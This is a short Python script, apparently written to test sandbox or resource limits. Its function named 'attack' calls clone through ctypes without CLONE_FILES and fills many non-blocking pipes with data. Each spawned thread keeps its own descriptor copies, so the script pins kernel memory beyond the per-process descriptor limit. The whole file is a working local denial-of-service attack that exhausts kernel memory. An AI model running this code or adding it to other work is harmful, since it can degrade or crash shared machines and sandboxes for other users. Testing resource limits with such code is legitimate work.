"""Starts threads that share no descriptor table, so that each may have as many full pipes as one process."""

import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
NOT_FILES = 0x100 | 0x200 | 0x800 | 0x10000 | 0x40000  # CLONE_VM, FS, SIGHAND, THREAD, SYSVSEM; no CLONE_FILES
kept = []


def attack(*args, **kwargs):
    held = 0
    for _ in range(200):
        pipes = []
        try:
            while True:
                pipes.append(os.pipe())
                os.set_blocking(pipes[-1][1], False)
                while True:
                    held += os.write(pipes[-1][1], b"x" * 65_536)
        except BlockingIOError:
            pass
        except OSError:
            pass
        while True:
            try:
                pipes.append(os.pipe())
                os.set_blocking(pipes[-1][1], False)
                try:
                    while True:
                        held += os.write(pipes[-1][1], b"x" * 65_536)
                except BlockingIOError:
                    pass
            except OSError:
                break
        stack = ctypes.create_string_buffer(2**14)
        kept.append(stack)
        top = (ctypes.addressof(stack) + 2**14 - 64) & ~15
        made = libc.clone(ctypes.cast(libc.pause, ctypes.c_void_p), ctypes.c_void_p(top), NOT_FILES, None)
        for pair in pipes:
            for descriptor in pair:
                os.close(descriptor)
        if made < 0:
            break
    print(held >> 20, "MB in pipes of", len(kept), "threads", flush=True)
    time.sleep(1)
